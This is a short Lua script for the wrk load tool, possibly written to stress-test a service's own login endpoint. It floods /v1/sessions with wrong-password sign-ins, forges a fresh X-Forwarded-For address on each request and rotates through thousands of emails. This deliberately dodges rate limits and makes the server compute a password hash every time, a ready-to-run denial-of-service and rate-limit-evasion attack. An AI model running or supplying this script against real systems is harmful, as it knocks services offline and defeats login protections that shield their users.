-- wrk script: wrong-password sign-ins, each from a new forwarded address and for one of many
-- emails, so every attempt costs the server a password hash (no limit is reached).
local counter = 0
local thread_id = 0

function setup(thread)
    thread:set("thread_id", thread_id)
    thread_id = thread_id + 1
end

function request()
    counter = counter + 1
    local address = string.format("10.%d.%d.%d", thread_id % 250, math.floor(counter / 250) % 250, counter % 250)
    local body = string.format('{"email":"flood%d@example.com","password":"wrong guess %d"}', counter % 5000, counter)
    return wrk.format("POST", "/v1/sessions", {
        ["Content-Type"] = "application/json",
        ["X-Forwarded-For"] = address,
    }, body)
end
